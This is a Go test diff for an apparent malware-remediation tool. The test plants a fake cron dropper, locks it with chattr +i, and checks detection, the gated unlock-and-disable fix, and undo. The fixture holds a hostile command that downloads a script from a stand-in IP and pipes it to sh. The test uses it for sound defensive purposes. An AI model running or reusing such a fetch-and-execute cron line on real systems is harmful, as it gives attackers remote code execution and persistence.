@@ -6,7 +6,9 @@ import (
 	"encoding/hex"
 	"encoding/json"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"strings"
 	"testing"
 
 	"github.com/rogpeppe/go-internal/txtar"
@@ -17,6 +19,7 @@ import (
 	"rescue/checks/checkstest"
 	"rescue/facts"
 	"rescue/pkgdb"
+	"rescue/repair"
 	"rescue/sysroot"
 )
 
@@ -71,4 +74,55 @@ func TestIndicators(t *testing.T) {
 	require.NoError(t, err)
 	assert.Contains(t, string(b), `"indicators":{"place":"cron"`)
 	assert.Contains(t, string(b), `"sha256":"`+file.SHA256+`"`)
+}
+
+// TestLockedCrontab: a dropper locks its cron file with chattr +i. The fix
+// unlocks it for good before commenting the line out; apply refuses
+// without --clear-immutable, applies with it, and undo locks the file
+// again.
+func TestLockedCrontab(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("chattr +i needs root (CI runs as root)")
+	}
+	dir := t.TempDir()
+	p := filepath.Join(dir, "etc/cron.d/kinsing")
+	require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
+	require.NoError(t, os.WriteFile(p, []byte("* * * * * root wget -q -O - http://192.0.2.7/d.sh | sh\n"), 0o644))
+	if out, err := exec.Command("chattr", "+i", p).CombinedOutput(); err != nil {
+		t.Skipf("chattr +i is not supported here: %v %s", err, out)
+	}
+	t.Cleanup(func() { exec.Command("chattr", "-i", p).Run() })
+	root, err := sysroot.Open(dir)
+	require.NoError(t, err)
+	defer root.Close()
+	res := checks.Run(context.Background(), root, facts.New(root, facts.Options{}), []*checks.Check{Check}, nil)
+	require.Len(t, res.Findings, 1)
+	f := res.Findings[0]
+	require.Len(t, f.Fixes, 1)
+	assert.Equal(t, "Clear chattr +i on /etc/cron.d/kinsing; comment out line 1 of /etc/cron.d/kinsing", f.Fixes[0].Message)
+	assert.Equal(t, repair.KindUnlock, f.Fixes[0].Ops[0].Kind)
+	assert.Contains(t, strings.Join(f.Evidence, "\n"), "immutable: /etc/cron.d/kinsing is protected with chattr +i")
+
+	cands, err := checks.Candidates(res.Findings, nil)
+	require.NoError(t, err)
+	plan := repair.NewPlan(cands, nil)
+	journal := t.TempDir()
+	ar, err := repair.Apply(root, plan, repair.Options{JournalDir: journal})
+	require.NoError(t, err)
+	assert.Equal(t, repair.OutcomeRefused, ar.Items[0].Status)
+	ar, err = repair.Apply(root, plan, repair.Options{JournalDir: journal, ClearImmutable: true})
+	require.NoError(t, err)
+	assert.Equal(t, repair.OutcomeApplied, ar.Items[0].Status, ar.Items[0].Reason)
+	data, err := os.ReadFile(p)
+	require.NoError(t, err)
+	assert.True(t, strings.HasPrefix(string(data), "# disabled by rescue: cron job: "))
+	fl, err := root.Flags("/etc/cron.d/kinsing")
+	require.NoError(t, err)
+	assert.Zero(t, fl&sysroot.FlagImmutable, "the intruder's lock stays off")
+
+	_, err = repair.Undo(root, repair.UndoOptions{JournalDir: journal})
+	require.NoError(t, err)
+	fl, err = root.Flags("/etc/cron.d/kinsing")
+	require.NoError(t, err)
+	assert.NotZero(t, fl&sysroot.FlagImmutable, "undo locks it again")
 }
